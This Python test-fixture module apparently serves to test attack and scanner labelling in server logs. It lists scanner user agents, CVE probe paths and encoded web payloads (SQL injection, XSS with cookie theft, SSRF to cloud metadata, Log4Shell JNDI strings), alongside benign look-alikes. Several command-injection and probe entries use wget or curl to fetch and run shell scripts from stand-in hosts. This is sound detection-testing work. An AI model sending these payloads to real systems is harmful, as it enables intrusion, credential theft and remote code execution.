"""Cases of the adversarial attack/scanner labelling review (tests/test_review_attack_corpus.py).

Requests as internet background noise and scanner runs send them (scanner user agents as the tools
send them by default, exploit probes of well-known CVEs as seen in public honeypot and WAF logs,
OWASP CRS-style payloads with encoded variants) and benign look-alikes, each turned into the log
records real Python servers write: instrumented attributes (stable HTTP semconv, and the old names
the contrib instrumentations still emit by default), and the access lines of gunicorn, uvicorn,
hypercorn and werkzeug.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

SQLI = "malicious_sqli"
XSS = "malicious_xss"
TRAV = "malicious_path_traversal"
CMDI = "malicious_cmdi"
SSRF = "malicious_ssrf"
TOOL = "malicious_attack_tool"
PROBE = "malicious_direct_reference"
TMPL = "malicious_template_injection"
CODE = "malicious_code_injection"
RFI = "malicious_rfi"
ANY = "any"  # any malicious_* action is right (the request carries several attacks)


@dataclass(frozen=True)
class Request:
    id: str
    family: str  # report grouping
    expect: str  # expected event.action (ANY: any malicious_*), or "" for benign (must not be security)
    path: str
    query: str = ""
    ua: str = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"
    body: str = ""
    status: int = 404
    method: str = "GET"
    headers: dict[str, str] = field(default_factory=dict)


def _r(id: str, family: str, expect: str, path: str, query: str = "", **kw: Any) -> Request:
    return Request(id, family, expect, path, query, **kw)


# --- attack tools by their default user agent -----------------------------------------------------
SCANNER_UAS: list[tuple[str, str]] = [
    ("nikto", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000603)"),
    ("sqlmap", "sqlmap/1.7.11#stable (https://sqlmap.org)"),
    ("nuclei", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
    ("wpscan", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
    ("dirbuster", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"),
    ("masscan", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
    ("zgrab", "Mozilla/5.0 zgrab/0.x"),
    ("gobuster", "gobuster/3.6"),
    ("ffuf", "Fuzz Faster U Fool v2.1.0-dev"),
    ("feroxbuster", "feroxbuster/2.10.1"),
    ("wfuzz", "Wfuzz/3.1.0"),
    ("openvas", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.4)"),
    ("nmap", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
    ("w3af", "w3af.org"),
    ("arachni", "Arachni/v1.5.1"),
    ("skipfish", "Mozilla/5.0 SF/2.10b"),
    ("commix", "commix/v3.9-stable (https://commixproject.com)"),
    ("hydra", "Mozilla/4.0 (Hydra)"),
    ("whatweb", "WhatWeb/0.5.5"),
    ("log4j_scan", "${jndi:ldap://${hostName}.c6t0x.interact.sh/a}"),
]


def scanner_requests() -> list[Request]:
    return [_r(f"ua/{name}", "scanner_ua", TOOL if name != "log4j_scan" else ANY, "/", ua=ua, status=200)
            for name, ua in SCANNER_UAS]


# --- probes of well-known exposures and CVEs (internet background noise), on a Python API -----------
PROBES: list[tuple[str, str, str]] = [
    ("dotenv", "/.env", ""),
    ("dotenv_nested", "/api/.env", ""),
    ("git_config", "/.git/config", ""),
    ("git_head", "/.git/HEAD", ""),
    ("svn_entries", "/.svn/entries", ""),
    ("ds_store", "/.DS_Store", ""),
    ("aws_credentials", "/.aws/credentials", ""),
    ("vscode_sftp", "/.vscode/sftp.json", ""),
    ("sftp_config", "/sftp-config.json", ""),
    ("docker_compose", "/docker-compose.yml", ""),
    ("wp_login", "/wp-login.php", ""),
    ("wp_admin_setup", "/wp-admin/setup-config.php", "step=1"),
    ("xmlrpc", "/xmlrpc.php", ""),
    ("phpinfo", "/phpinfo.php", ""),
    ("phpmyadmin", "/phpmyadmin/index.php", ""),
    ("phpunit_rce", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", ""),
    ("spring_actuator_env", "/actuator/env", ""),
    ("spring_actuator_heapdump", "/actuator/heapdump", ""),
    ("laravel_ignition", "/_ignition/execute-solution", ""),
    ("laravel_telescope", "/telescope/requests", ""),
    ("symfony_profiler", "/_profiler/phpinfo", ""),
    ("thinkphp_rce", "/index.php", "s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
                                   "&vars[0]=md5&vars[1][]=HelloThinkPHP"),
    ("liferay_jsonws", "/api/jsonws/invoke", ""),
    ("apache_cve_2021_41773", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", ""),
    ("apache_cve_2021_42013", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh", ""),
    ("citrix_cve_2019_19781", "/vpn/../vpns/cfg/smb.conf", ""),
    ("f5_bigip_cve_2020_5902", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp",
     "fileName=/etc/passwd"),
    ("fortinet_cve_2018_13379", "/remote/fgt_lang", "lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
    ("pulse_cve_2019_11510", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd", "/dana/html5acc/"
                                                                                                  "guacamole/"),
    ("exchange_proxyshell", "/autodiscover/autodiscover.json", "@zdi/Powershell"),
    ("owa", "/owa/auth/logon.aspx", ""),
    ("confluence_ognl", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime"
                        "%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/", ""),
    ("weblogic_wls_wsat", "/wls-wsat/CoordinatorPortType", ""),
    ("weblogic_console", "/console/css/%252e%252e%252fconsole.portal", ""),
    ("gpon_router_rce", "/GponForm/diag_Form", "images/"),
    ("hnap", "/HNAP1/", ""),
    ("boaform", "/boaform/admin/formLogin", ""),
    ("netgear_setup_cgi", "/setup.cgi", "next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://"
                                        "198.51.100.3/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1"),
    ("mozi_shell", "/shell", "cd+/tmp;rm+-rf+*;wget+http://198.51.100.3/jaws;sh+/tmp/jaws"),
    ("docker_api", "/containers/json", ""),
    ("k8s_api", "/api/v1/namespaces/kube-system/secrets", ""),
    ("solr_admin", "/solr/admin/cores", "action=STATUS&wt=json"),
    ("tomcat_manager", "/manager/html", ""),
    ("xdebug", "/", "XDEBUG_SESSION_START=phpstorm"),
    ("backup_zip", "/backup.zip", ""),
    ("db_dump", "/db.sql", ""),
    ("config_json", "/config.json", ""),
    ("id_rsa", "/id_rsa", ""),
    ("web_config", "/web.config", ""),
    ("pearcmd_lfi", "/index.php", "+config-create+/&lang=../../../../../../../../usr/local/lib/php/pearcmd"
                                  "&/<?=phpinfo()?>+/tmp/hello.php"),
]


def probe_requests() -> list[Request]:
    return [_r(f"probe/{name}", "probe", ANY, path, query) for name, path, query in PROBES]


# --- payloads in parameters, as attack families, with encoded variants ------------------------------
PAYLOADS: list[tuple[str, str, str, str, str]] = [
    # (id, expected action, path, query, body)
    ("sqli/tautology", SQLI, "/api/items", "id=1%27%20OR%20%271%27%3D%271", ""),
    ("sqli/sleep", SQLI, "/api/items", "id=1%27%20AND%20SLEEP(5)--%20-", ""),
    ("sqli/pg_sleep_concat", SQLI, "/api/items", "id=1%27%7C%7Cpg_sleep(5)--", ""),
    ("sqli/subselect_sleep", SQLI, "/api/items", "id=(SELECT%201%20FROM%20(SELECT%20SLEEP(5))a)", ""),
    ("sqli/union", SQLI, "/api/items", "id=-1%20UNION%20ALL%20SELECT%20NULL,NULL,version()--", ""),
    ("sqli/admin_comment", SQLI, "/api/login", "user=admin%27--&pass=x", ""),
    ("sqli/stacked", SQLI, "/api/items", "id=1;SELECT/**/PG_SLEEP(5)", ""),
    ("sqli/order_by_probe", SQLI, "/api/items", "sort=name%20ASC,(SELECT%20CASE%20WHEN%20(1=1)%20THEN%201%20ELSE"
                                                "%201/(SELECT%200)%20END)", ""),
    ("sqli/json_body", SQLI, "/api/search", "", '{"filter": {"id": "1\' AND 1=(SELECT 1 FROM pg_sleep(5))--"}}'),
    ("sqli/nosql_query", SQLI, "/api/login", "username[$ne]=x&password[$ne]=x", ""),
    ("sqli/nosql_json_body", SQLI, "/api/login", "", '{"username": {"$ne": null}, "password": {"$ne": null}}'),
    ("sqli/double_encoded", SQLI, "/api/items", "id=1%2527%2520OR%25201%253D1--", ""),
    ("xss/svg_onload", XSS, "/search", "q=%3Csvg/onload=alert(1)%3E", ""),
    ("xss/img_onerror_attr_break", XSS, "/search", "q=%22%3E%3Cimg%20src=x%20onerror=alert(document.domain)%3E", ""),
    ("xss/javascript_redirect", XSS, "/login", "next=javascript:alert(1)", ""),
    ("xss/js_context", XSS, "/search", "q=%27-alert(1)-%27", ""),
    ("xss/details_ontoggle", XSS, "/search", "q=%3Cdetails%20open%20ontoggle=confirm()%3E", ""),
    ("xss/json_body_stored", XSS, "/api/comments", "", '{"text": "<script>fetch(\'//x.example/\'+document.cookie)</script>"}'),
    ("xss/double_encoded", XSS, "/search", "q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", ""),
    ("traversal/basic", TRAV, "/download", "file=../../../../etc/passwd", ""),
    ("traversal/double_encoded", TRAV, "/download", "file=%252e%252e%252f%252e%252e%252fetc%252fpasswd", ""),
    ("traversal/backslash_encoded", TRAV, "/download", "file=..%5c..%5c..%5cwindows%5cwin.ini", ""),
    ("traversal/filter_bypass", TRAV, "/download", "file=....//....//....//etc/passwd", ""),
    ("traversal/tomcat_semicolon", ANY, "/static/..;/WEB-INF/web.xml", "", ""),
    ("traversal/json_body", TRAV, "/api/export", "", '{"template": "../../../../etc/passwd"}'),
    ("traversal/in_path_encoded", ANY, "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "", ""),
    ("ssrf/aws_metadata", SSRF, "/api/fetch", "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
     ""),
    ("ssrf/gcp_metadata", SSRF, "/api/fetch", "url=http://metadata.google.internal/computeMetadata/v1/", ""),
    ("ssrf/decimal_ip", SSRF, "/api/fetch", "url=http://2852039166/latest/meta-data/", ""),
    ("ssrf/hex_ip", SSRF, "/api/fetch", "url=http://0xA9FEA9FE/latest/meta-data/", ""),
    ("ssrf/ipv6_mapped", SSRF, "/api/fetch", "url=http://[::ffff:a9fe:a9fe]/latest/meta-data/", ""),
    ("ssrf/short_loopback", SSRF, "/api/fetch", "url=http://127.1:6379/", ""),
    ("ssrf/gopher_redis", SSRF, "/api/fetch", "url=gopher://127.0.0.1:6379/_FLUSHALL", ""),
    ("ssrf/file_scheme", ANY, "/api/fetch", "url=file:///etc/passwd", ""),
    ("ssrf/json_body_webhook", SSRF, "/api/webhooks", "", '{"callback_url": "http://169.254.169.254/latest/meta-data/"}'),
    ("log4shell/query", TMPL, "/api/items", "q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%3A1389%2Fa%7D", ""),
    ("log4shell/obfuscated_lower", TMPL, "/api/items", "q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
     ""),
    ("log4shell/obfuscated_default", TMPL, "/", "x=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7D%24%7B%3A%3A-d%7D%24%7B"
                                               "%3A%3A-i%7D%3Armi%3A%2F%2Fx.example%2Fa%7D", ""),
    ("log4shell/json_body", TMPL, "/api/login", "", '{"username": "${jndi:ldap://x.example/a}", "password": "x"}'),
    ("cmdi/semicolon_id", CMDI, "/api/ping", "host=127.0.0.1;id", ""),
    ("cmdi/pipe_whoami", CMDI, "/api/ping", "host=127.0.0.1%7Cwhoami", ""),
    ("cmdi/subshell", CMDI, "/api/ping", "host=%24(id)", ""),
    ("cmdi/backticks", CMDI, "/api/ping", "host=%60id%60", ""),
    ("cmdi/newline", CMDI, "/api/ping", "host=127.0.0.1%0Aid", ""),
    ("cmdi/curl_pipe_sh", CMDI, "/api/ping", "host=x%7C%7Ccurl%20http://198.51.100.3/s.sh%7Csh", ""),
    ("cmdi/json_body", CMDI, "/api/convert", "", '{"filename": "a.png; curl http://198.51.100.3/x | sh"}'),
    ("ssti/jinja_math", TMPL, "/api/greet", "name=%7B%7B7*7%7D%7D", ""),
    ("ssti/jinja_config", TMPL, "/api/greet", "name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D", ""),
    ("ssti/el", TMPL, "/api/greet", "name=%24%7B7*7%7D", ""),
    ("ssti/erb", TMPL, "/api/greet", "name=%3C%25%3D%207*7%20%25%3E", ""),
    ("spring4shell", ANY, "/api/users", "class.module.classLoader.resources.context.parent.pipeline.first.pattern="
                                        "%25%7Bc2%7Di", ""),
    ("xxe/body", ANY, "/api/import", "", '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM '
                                         '"file:///etc/passwd">]><foo>&xxe;</foo>'),
    ("proto_pollution/query", CODE, "/api/settings", "__proto__[isAdmin]=true", ""),
    ("proto_pollution/json_body", CODE, "/api/settings", "", '{"__proto__": {"isAdmin": true}}'),
    ("rfi/php", RFI, "/index.php", "page=http://198.51.100.3/shell.txt?", ""),
]


def payload_requests() -> list[Request]:
    out = []
    for pid, expect, path, query, body in PAYLOADS:
        method = "POST" if body else "GET"
        out.append(_r(f"payload/{pid}", pid.split("/")[0], expect, path, query, body=body, method=method, status=200))
    return out


# --- payloads where the contrib instrumentations / apps put them beyond the URL ----------------------
HEADER_PAYLOADS: list[tuple[str, str, str, str]] = [
    # (id, expected action, header attribute name, value)
    ("log4shell/x_api_version", TMPL, "http.request.header.x-api-version", "${jndi:ldap://x.example/a}"),
    ("log4shell/x_forwarded_for", TMPL, "http.request.header.x-forwarded-for", "${jndi:dns://x.example/a}"),
    ("sqli/cookie", SQLI, "http.request.header.cookie", "session=1' AND SLEEP(5)--"),
    ("xss/referer_attr", XSS, "http.request.header.referer", "https://x.example/?q=<script>alert(1)</script>"),
    # scanners that send a browser user agent and announce themselves in headers (CRS 913110 list)
    ("tool/acunetix_product", TOOL, "http.request.header.acunetix-product",
     "WVS/10.0 (Acunetix Web Vulnerability Scanner - Free Edition)"),
    ("tool/x_scanner", TOOL, "http.request.header.x-scanner", "Netsparker"),
]


# --- benign look-alikes: must not be labelled security --------------------------------------------
BENIGN: list[Request] = [
    _r("benign/search_select_shoes", "benign", "", "/search", "q=select+shoes", status=200),
    _r("benign/search_union_station", "benign", "", "/search", "q=union+station+to+select+hotel", status=200),
    _r("benign/search_drop_table", "benign", "", "/search", "q=drop+leaf+table+oak", status=200),
    _r("benign/search_oreilly", "benign", "", "/search", "q=O%27Reilly+%26+Sons", status=200),
    _r("benign/search_rock_roll", "benign", "", "/search", "q=rock+%26+roll", status=200),
    _r("benign/search_cpp", "benign", "", "/search", "q=c%2B%2B+%3C%3D+operator", status=200),
    _r("benign/search_heart", "benign", "", "/search", "q=i+%3C3+this", status=200),
    _r("benign/search_bash_sleep", "benign", "", "/blog/how-to-use-sleep-in-bash", status=200),
    _r("benign/promql", "benign", "", "/api/v1/query", "query=sum(rate(http_requests_total%5B5m%5D))+by+(job)",
       status=200),
    _r("benign/lucene", "benign", "", "/api/issues", "q=status%3Aopen+AND+label%3A%22bug%22", status=200),
    _r("benign/filter_ops", "benign", "", "/api/products", "price%5Bgte%5D=10&price%5Blte%5D=20", status=200),
    _r("benign/jsonp_callback", "benign", "", "/api/data", "callback=jQuery3510_1700000000000", status=200),
    _r("benign/redirect_https", "benign", "", "/login", "next=https%3A%2F%2Fapp.example.com%2Fdashboard", status=302),
    _r("benign/oauth_redirect_uri", "benign", "", "/oauth/authorize",
       "client_id=abc&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&scope=openid+email&state=x1", status=302),
    _r("benign/email_plus", "benign", "", "/api/users", "email=jane%2Bnews%40example.com", status=200),
    _r("benign/iso_time_range", "benign", "", "/api/events", "from=2026-11-01T00%3A00%3A00Z&to=2026-11-26T23%3A59"
                                                             "%3A59Z", status=200),
    _r("benign/graphql_body", "benign", "", "/graphql", body='{"query": "query { user(id: 1) { name orders { id } } }"}',
       method="POST", status=200),
    _r("benign/markdown_body", "benign", "", "/api/docs", body='{"text": "See [setup](../docs/setup.md) and '
                                                               '`SELECT * FROM users` example"}', method="POST",
       status=200),
    _r("benign/relative_link_referer", "benign", "", "/img/logo.png", status=200),
    _r("benign/robots", "benign", "", "/robots.txt", status=200),
    _r("benign/security_txt", "benign", "", "/.well-known/security.txt", status=404),
    _r("benign/favicon", "benign", "", "/favicon.ico", status=404),
    _r("benign/apple_touch", "benign", "", "/apple-touch-icon-precomposed.png", status=404),
    _r("benign/sitemap", "benign", "", "/sitemap.xml", status=404),
    _r("benign/api_keys_route", "benign", "", "/api/v1/api-keys", "page=2", status=200),
    _r("benign/scripts_route", "benign", "", "/api/v1/scripts/42/run", status=200, method="POST"),
    _r("benign/config_route", "benign", "", "/api/v1/config", status=200),
    _r("benign/admin_route_of_this_app", "benign", "", "/api/admin/users", "page=1", status=200),
    _r("benign/health_probe", "benign", "", "/healthz", ua="kube-probe/1.29", status=200),
    _r("benign/elb", "benign", "", "/health", ua="ELB-HealthChecker/2.0", status=200),
    _r("benign/googlebot", "benign", "", "/pricing", ua="Mozilla/5.0 (compatible; Googlebot/2.1; "
                                                         "+http://www.google.com/bot.html)", status=200),
    _r("benign/slackbot", "benign", "", "/share/42", ua="Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
       status=200),
    _r("benign/postman", "benign", "", "/api/items", ua="PostmanRuntime/7.36.0", status=200),
    _r("benign/okhttp", "benign", "", "/api/items", ua="okhttp/4.12.0", status=200),
    _r("benign/go_client", "benign", "", "/api/items", ua="Go-http-client/1.1", status=200),
    _r("benign/python_requests", "benign", "", "/api/items", ua="python-requests/2.31.0", status=200),
    _r("benign/curl", "benign", "", "/api/items", ua="curl/8.5.0", status=200),
    _r("benign/wget", "benign", "", "/downloads/app.tar.gz", ua="Wget/1.21.4", status=200),
    _r("benign/headless_chrome", "benign", "", "/", ua="Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, "
                                                        "like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36", status=200),
    _r("benign/edge", "benign", "", "/", ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
                                             "Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91", status=200),
    _r("benign/mobile_app", "benign", "", "/api/feed", ua="ShopApp/5.2.1 (iPhone; iOS 17.1; Scale/3.00)", status=200),
    _r("benign/math_expr", "benign", "", "/api/calc", "expr=(2%2B3)*4", status=200),
    _r("benign/file_download_name", "benign", "", "/api/files/report..2026.pdf", status=200),
    _r("benign/archive_download", "benign", "", "/exports/orders-2026-11.zip", status=200),
    _r("benign/csv_export", "benign", "", "/api/orders/export", "format=csv&fields=id,total,created_at", status=200),
    _r("benign/hash_route", "benign", "", "/api/commits/9fceb02d0ae598e95dc970b74767f19372d61af8", status=200),
    _r("benign/uuid_route", "benign", "", "/api/orders/3f2b8c1e-9d4a-4e6b-8f1a-2c3d4e5f6a7b", status=200),
    _r("benign/semicolon_matrix", "benign", "", "/api/cars;color=red;year=2020", status=200),
    _r("benign/sql_word_in_name", "benign", "", "/api/users", "name=Selena+Union&city=Orderville", status=200),
    _r("benign/template_like_braces", "benign", "", "/api/templates", body='{"subject": "Hello {{first_name}}!"}',
       method="POST", status=201),
    _r("benign/date_path", "benign", "", "/reports/2026/11/26/daily.pdf", status=200),
    _r("benign/localhost_docs", "benign", "", "/docs", "q=how+to+connect+to+localhost+redis", status=200),
]
